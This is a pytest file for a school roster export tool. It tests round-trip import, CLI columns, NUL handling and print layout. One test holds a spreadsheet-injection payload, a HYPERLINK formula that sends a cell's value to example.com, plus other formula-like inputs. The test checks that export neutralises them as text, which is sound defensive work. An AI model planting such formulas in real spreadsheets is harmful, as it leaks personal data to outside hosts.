"""The export re-imports with no change; the CLI writes the columns the issue names."""

import json

from openpyxl import load_workbook

from kongchuo_desktop import cli
from kongchuo_desktop.db.store import open_data_folder
from kongchuo_desktop.services import demo, roster_export, roster_import


def test_the_demo_roster_round_trips_with_no_change(tmp_path, folder, actor):
    demo.create_demo_school(actor, students=300, seed=7)
    out = roster_export.export_roster(
        tmp_path / "roster.xlsx", roster_export.students_for_export(), title="花名册"
    )
    plan = roster_import.make_import_plan(roster_import.read_sheet(out))
    assert plan.problems == []
    assert (len(plan.new), len(plan.updated), len(plan.unchanged)) == (0, 0, 300)
    assert plan.missing == []


def test_export_cli_one_class_with_the_named_columns(tmp_path, capsys, actor):
    data = tmp_path / "d"
    f = open_data_folder(data, daily_backup=False)
    demo.create_demo_school(actor, students=270, seed=3)
    f.close()
    out = tmp_path / "七年级1班.xlsx"
    code = cli.main(
        ["--data-dir", str(data), "export-roster", str(out), "--class", "七年级1班", "--json"]
    )
    result = json.loads(capsys.readouterr().out)
    assert code == 0 and result["students"] == 10
    ws = load_workbook(out).active
    header = [c.value for c in ws[2]]
    for col in ("姓名", "性别", "身份证件号", "学籍号", "年级", "班级", "学籍状态", "成员1姓名"):
        assert col in header
    classes = {row[header.index("班级")] for row in ws.iter_rows(min_row=3, values_only=True)}
    assert classes == {"七年级1班"}
    id_cells = [
        row[header.index("身份证件号")] for row in ws.iter_rows(min_row=3, values_only=True)
    ]
    assert all(isinstance(x, str) for x in id_cells)

    other = tmp_path / "七年级9班.xlsx"
    code = cli.main(["--data-dir", str(data), "export-roster", str(other), "--class", "七年级9班"])
    assert code == 2 and not other.exists()


FORMULA = '=HYPERLINK("http://example.com/?q="&H3,"点这里")'


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(
    tmp_path, folder, actor
):
    from kongchuo_desktop.db.models import Guardian, Student
    from kongchuo_desktop.services import audit
    from tests import roster_files as rf
    from tests.services.roster_helpers import small_school

    small_school(actor)
    rows = [r for i, r in enumerate(rf.messy_rows(), start=3) if i in rf.GOOD_ROWS]
    roster_import.apply_plan(
        actor,
        roster_import.make_import_plan(
            roster_import.read_sheet(rf.write_xlsx(tmp_path / "a.xlsx", rows))
        ),
    )
    zhang = Student.get(Student.name == "张三")
    texts = {"address": FORMULA, "phone": "+8613800000001", "notes": "@SUM(A1)", "ethnicity": "-"}
    audit.update(zhang, actor, **texts)
    audit.update(Guardian.get(Guardian.student == zhang), actor, phone="-")
    li = Student.get(Student.name == "李四")
    audit.update(li, actor, address="=1+1", household_address="-2")

    out = roster_export.export_roster(tmp_path / "out.xlsx", roster_export.students_for_export())

    ws = load_workbook(out).active
    header = [c.value for c in ws[2]]
    cells = {row[header.index("姓名")].value: row for row in ws.iter_rows(min_row=3)}
    for column, value in [
        ("现住址", FORMULA),
        ("联系电话", "+8613800000001"),
        ("备注", "@SUM(A1)"),
        ("民族", "-"),
        ("成员1联系电话", "-"),
    ]:
        cell = cells["张三"][header.index(column)]
        assert (cell.data_type, cell.value) == ("s", value), column
        assert cell.quotePrefix
    for column, value in [("现住址", "=1+1"), ("户口所在地", "-2")]:
        cell = cells["李四"][header.index(column)]
        assert (cell.data_type, cell.value) == ("s", value), column
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)

    plan = roster_import.make_import_plan(roster_import.read_sheet(out))
    assert plan.errors == []
    assert [c.changes for c in plan.updated] == []
    assert len(plan.new) == 0
    assert Student.get_by_id(zhang.id).address == FORMULA


def test_a_nul_already_in_the_database_no_longer_fails_every_export(tmp_path, folder, actor):
    from kongchuo_desktop.db.models import Student
    from kongchuo_desktop.services import audit
    from tests import roster_files as rf
    from tests.services.roster_helpers import small_school

    small_school(actor)
    rows = [r for i, r in enumerate(rf.messy_rows(), start=3) if i in rf.GOOD_ROWS]
    roster_import.apply_plan(
        actor,
        roster_import.make_import_plan(
            roster_import.read_sheet(rf.write_xlsx(tmp_path / "a.xlsx", rows))
        ),
    )
    audit.update(Student.get(Student.name == "王五"), actor, name="王\x00五", address="青山\x07镇")
    out = roster_export.export_roster(tmp_path / "out.xlsx", roster_export.students_for_export())
    names = [r[1] for r in load_workbook(out).active.iter_rows(min_row=3, values_only=True)]
    assert "王五" in names


def test_tab_and_carriage_return_starts_are_text_too():
    from openpyxl import Workbook

    ws = Workbook(write_only=True).create_sheet("x")
    for value in ("\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"):
        cell = roster_export.safe_cell_value(ws, value)
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", value, True)
    assert roster_export.safe_cell_value(ws, "青山镇") == "青山镇"
    assert roster_export.safe_cell_value(ws, 3) == 3
    assert roster_export.safe_cell_value(ws, "张\x00三") == "张三"


def test_the_exported_roster_prints_on_a4_across_one_page_wide_with_the_header_on_each_page(
    tmp_path, folder, actor
):
    demo.create_demo_school(actor, students=60, seed=5)
    out = roster_export.export_roster(
        tmp_path / "roster.xlsx", roster_export.students_for_export(), title="花名册"
    )
    ws = load_workbook(out).active
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.paperSize == 9  # A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.print_title_rows == "$2:$2"
    assert "姓名" in [c.value for c in ws[2]]  # the repeated row is the column header
